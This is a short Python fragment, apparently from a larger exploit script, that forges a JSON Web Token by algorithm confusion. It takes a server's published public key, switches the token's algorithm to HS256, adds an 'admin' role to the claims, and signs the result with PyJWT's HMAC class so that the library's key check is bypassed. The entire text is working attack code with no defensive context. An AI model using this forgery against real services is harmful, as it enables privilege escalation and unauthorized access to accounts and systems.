# signs with PyJWT's HMAC class, which takes any bytes when the key check is left out
import jwt.algorithms

secret = pem_of(mine.find_key(published, header["kid"]))
signing_input = ".".join(
    mine.base64url_encode(json.dumps(part).encode())
    for part in ({**header, "alg": "HS256"}, {**json.loads(claims), "roles": ["admin"]})
)
hs256 = jwt.algorithms.HMACAlgorithm(jwt.algorithms.HMACAlgorithm.SHA256)
signature = hs256.sign(signing_input.encode(), secret)
forged = f"{signing_input}.{mine.base64url_encode(signature)}"
